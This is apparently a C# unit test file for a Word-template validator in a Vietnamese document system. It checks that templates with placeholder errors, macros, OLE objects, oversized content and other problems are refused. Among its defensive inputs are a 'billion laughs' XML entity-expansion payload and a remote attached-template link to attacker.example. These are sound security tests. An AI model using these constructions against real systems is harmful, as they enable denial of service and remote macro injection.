using DocumentFormat.OpenXml;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using KhuyenCong.Application.Documents;
using KhuyenCong.Domain.Documents;
using KhuyenCong.Domain.Text;
using Microsoft.Extensions.DependencyInjection;
using static KhuyenCong.UnitTests.Documents.TestDocx;

namespace KhuyenCong.UnitTests.Documents;

public sealed class TemplateValidationTests : IDisposable
{
    private readonly ServiceProvider services = DocumentsTestServices.Create(new Dictionary<string, string?> { ["Documents:MaxTemplateBytes"] = "1048576" });

    private TemplateValidation Validation => services.GetRequiredService<TemplateValidation>();

    private IDocumentKind Receipt => services.Kind("receipt");

    public void Dispose() => services.Dispose();

    /// <summary>A template with every required placeholder of the kind (a table for each required block) but <paramref name="except"/>, plus <paramref name="extra"/>.</summary>
    private static byte[] Minimal(IDocumentKind kind, string? except = null, string extra = "")
    {
        var set = DocumentCatalog.PlaceholdersOf(kind);
        var content = new List<OpenXmlElement>
        {
            Para(string.Concat(set.Values.Where(v => v.Required && v.Name != except).Select(v => "{{" + v.Name + "}} ")) + extra),
        };
        foreach (var rows in set.Rows.Where(r => r.Required && r.Name != except))
        {
            var fields = string.Concat(rows.Fields.Where(f => f.Required && rows.FieldName(f.Name) != except).Select(f => "{{" + rows.FieldName(f.Name) + "}}"));
            content.Add(Table([["{{#" + rows.Name + "}}" + fields + "{{/" + rows.Name + "}}"]]));
        }

        return Build([.. content]);
    }

    [Theory]
    [InlineData("receipt")]
    [InlineData("contract")]
    [InlineData("acceptance-minutes")]
    [InlineData("liquidation")]
    public void Check_MinimalTemplateOfEachKind_HasNoProblem(string kind) =>
        Assert.Empty(Validation.Check(services.Kind(kind), Minimal(services.Kind(kind))));

    [Theory]
    [InlineData("proposal.trackingCode", "Mẫu thiếu trường bắt buộc {{proposal.trackingCode}}.")]
    [InlineData("document.dateLine", "Mẫu thiếu trường bắt buộc {{document.dateLine}}.")]
    [InlineData("documents", "Mẫu thiếu trường bắt buộc {{#documents}}.")]
    [InlineData("documents.kind", "Mẫu thiếu trường bắt buộc {{documents.kind}}.")]
    public void Check_WithoutARequiredPlaceholder_NamesIt(string missing, string message)
    {
        var problem = Assert.Single(Validation.Check(Receipt, Minimal(Receipt, except: missing)));
        Assert.Equal(message, problem.Message(Language.Vietnamese));
    }

    [Fact]
    public void Check_UnknownPlaceholder_NamesIt()
    {
        var problem = Assert.Single(Validation.Check(Receipt, Minimal(Receipt, extra: "{{establishment.taxCode}}")));
        Assert.Equal("Trường {{establishment.taxCode}} không thuộc danh sách trường của loại văn bản này.", problem.Message(Language.Vietnamese));
        Assert.Equal("The placeholder {{establishment.taxCode}} is not one of this document's placeholders.", problem.Message(Language.English));
    }

    [Fact]
    public void Check_MalformedPlaceholder_NamesIt()
    {
        var problem = Assert.Single(Validation.Check(Receipt, Minimal(Receipt, extra: "{{proposal.title")));
        Assert.Equal(TemplateProblemKind.Malformed, problem.Kind);
        Assert.Contains("{{proposal.title", problem.Message(Language.Vietnamese), StringComparison.Ordinal);
    }

    public static TheoryData<string, byte[]> NotDocuments() => new()
    {
        { "text", "{{proposal.title}}"u8.ToArray() },
        { "pdf", "%PDF-1.7\n{{proposal.title}}"u8.ToArray() },
        { "empty zip", [0x50, 0x4B, 0x05, 0x06, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0] },
        { "workbook", Workbook() },
        { "cut short", CutShort() },
    };

    [Theory]
    [MemberData(nameof(NotDocuments))]
    public void Check_NotAWordDocument_IsRefusedAsNotDocx(string what, byte[] content)
    {
        var problem = Assert.Single(Validation.Check(Receipt, content));
        Assert.True(problem.Kind == TemplateProblemKind.NotDocx, what);
        Assert.Equal("Mẫu phải là tài liệu Word (.docx) mở được bằng Word.", problem.Message(Language.Vietnamese));
    }

    [Fact]
    public void Check_MacroEnabledDocument_IsRefusedNamingMacros()
    {
        var problem = Assert.Single(Validation.Check(Receipt, Build(WordprocessingDocumentType.MacroEnabledDocument, Para("{{proposal.title}}"))));
        Assert.Equal(new TemplateProblem(TemplateProblemKind.ActiveContent, "macro"), problem);
        Assert.StartsWith("Mẫu có chứa macro", problem.Message(Language.Vietnamese), StringComparison.Ordinal);
    }

    [Fact]
    public void Check_MacroEnabledDocumentInEnglish_NamesMacrosInEnglish()
    {
        var problem = Assert.Single(Validation.Check(Receipt, Build(WordprocessingDocumentType.MacroEnabledDocument, Para("{{proposal.title}}"))));
        Assert.Equal("The template contains macros, which is not accepted: save it as a plain Word document (.docx).", problem.Message(Language.English));
    }

    [Fact]
    public void Check_EmbeddedMacroEnabledWorkbook_IsRefusedByTheAttachmentsRule()
    {
        // The attachments' gate (OfficeDocumentInspection) refuses an embedded .xlsm, which no Word part type betrays.
        var content = WithEntry(Minimal(Receipt), "word/embeddings/Microsoft_Excel_Macro-Enabled_Worksheet.xlsm", [0x50, 0x4B, 0x03, 0x04]);

        Assert.Equal(new TemplateProblem(TemplateProblemKind.ActiveContent, "macro"), Assert.Single(Validation.Check(Receipt, content)));
    }

    [Fact]
    public void Check_OleObjectEntry_IsRefusedNamingEmbeddedObjects()
    {
        var problem = Assert.Single(Validation.Check(Receipt, WithEntry(Minimal(Receipt), "word/embeddings/oleObject1.bin", [0xD0, 0xCF, 0x11, 0xE0])));

        Assert.Equal(new TemplateProblem(TemplateProblemKind.ActiveContent, "đối tượng nhúng (OLE, ActiveX)"), problem);
        Assert.Equal("The template contains embedded objects (OLE, ActiveX), which is not accepted: save it as a plain Word document (.docx).", problem.Message(Language.English));
    }

    [Fact]
    public void Check_OldWordDocument_IsRefusedAsNotDocx() =>
        Assert.Equal(TemplateProblemKind.NotDocx, Assert.Single(Validation.Check(Receipt, new byte[] { 0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0 })).Kind);

    [Fact]
    public void Check_DocumentWithAVbaProjectEntry_IsRefusedNamingMacros()
    {
        var content = WithEntry(Minimal(Receipt), "word/vbaProject.bin", [0xD0, 0xCF, 0x11, 0xE0]);
        Assert.Equal(TemplateProblemKind.ActiveContent, Assert.Single(Validation.Check(Receipt, content)).Kind);
    }

    [Fact]
    public void Check_WordTemplateType_IsRefused() =>
        Assert.Equal(TemplateProblemKind.ActiveContent, Assert.Single(Validation.Check(Receipt, Build(WordprocessingDocumentType.Template, Para("x")))).Kind);

    [Fact]
    public void Check_RemoteAttachedTemplate_IsRefused()
    {
        using var stream = new MemoryStream();
        stream.Write(Minimal(Receipt));
        using (var document = WordprocessingDocument.Open(stream, true))
        {
            var settings = document.MainDocumentPart!.AddNewPart<DocumentSettingsPart>();
            settings.Settings = new DocumentFormat.OpenXml.Wordprocessing.Settings();
            settings.AddExternalRelationship(
                "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", new Uri("http://attacker.example/t.dotm"));
        }

        var problem = Assert.Single(Validation.Check(Receipt, stream.ToArray()));
        Assert.Equal(new TemplateProblem(TemplateProblemKind.ActiveContent, "liên kết tới tệp bên ngoài"), problem);
    }

    [Fact]
    public void Check_DocumentXmlWithADtd_IsRefusedAsNotDocx()
    {
        // "Billion laughs": ten entities each ten times the one before; a parser that expands them builds 10^9 strings.
        var entities = string.Concat(Enumerable.Range(1, 9).Select(i => $"<!ENTITY l{i} \"{string.Concat(Enumerable.Repeat($"&l{i - 1};", 10))}\">"));
        var xml = $"<?xml version=\"1.0\"?><!DOCTYPE w:document [<!ENTITY l0 \"ha\">{entities}]>"
            + "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>&l9;</w:t></w:r></w:p></w:body></w:document>";
        var content = ReplaceEntry(Minimal(Receipt), "word/document.xml", System.Text.Encoding.UTF8.GetBytes(xml));

        var withoutDtd = xml[..xml.IndexOf("<!DOCTYPE", StringComparison.Ordinal)] + xml[(xml.IndexOf("]>", StringComparison.Ordinal) + 2)..].Replace("&l9;", "ha", StringComparison.Ordinal);

        // Refused because the DTD is prohibited (the OpenXML SDK's reader), before any entity is expanded; the same
        // document without it is read (and then lacks the receipt's placeholders).
        Assert.Equal(TemplateProblemKind.NotDocx, Assert.Single(Validation.Check(Receipt, content)).Kind);
        Assert.All(Validation.Check(Receipt, ReplaceEntry(Minimal(Receipt), "word/document.xml", System.Text.Encoding.UTF8.GetBytes(withoutDtd))),
            p => Assert.Equal(TemplateProblemKind.Missing, p.Kind));
    }

    [Fact]
    public void Check_LargerThanTheLimit_IsRefusedWithTheLimit()
    {
        var problem = Assert.Single(Validation.Check(Receipt, new byte[1024 * 1024 + 1]));
        Assert.Equal("The template is larger than 1 MB.", problem.Message(Language.English));
    }

    private static byte[] ReplaceEntry(byte[] docx, string name, byte[] content)
    {
        using var stream = new MemoryStream();
        stream.Write(docx);
        using (var zip = new System.IO.Compression.ZipArchive(stream, System.IO.Compression.ZipArchiveMode.Update, leaveOpen: true))
        {
            zip.GetEntry(name)!.Delete();
            using var entry = zip.CreateEntry(name).Open();
            entry.Write(content);
        }

        return stream.ToArray();
    }

    private static byte[] Workbook()
    {
        using var stream = new MemoryStream();
        using (var workbook = SpreadsheetDocument.Create(stream, SpreadsheetDocumentType.Workbook))
        {
            var part = workbook.AddWorkbookPart();
            part.Workbook = new Workbook(new Sheets());
        }

        return stream.ToArray();
    }

    private static byte[] CutShort()
    {
        var whole = Build(Para("{{proposal.title}}"));
        return whole[..(whole.Length / 2)];
    }
}
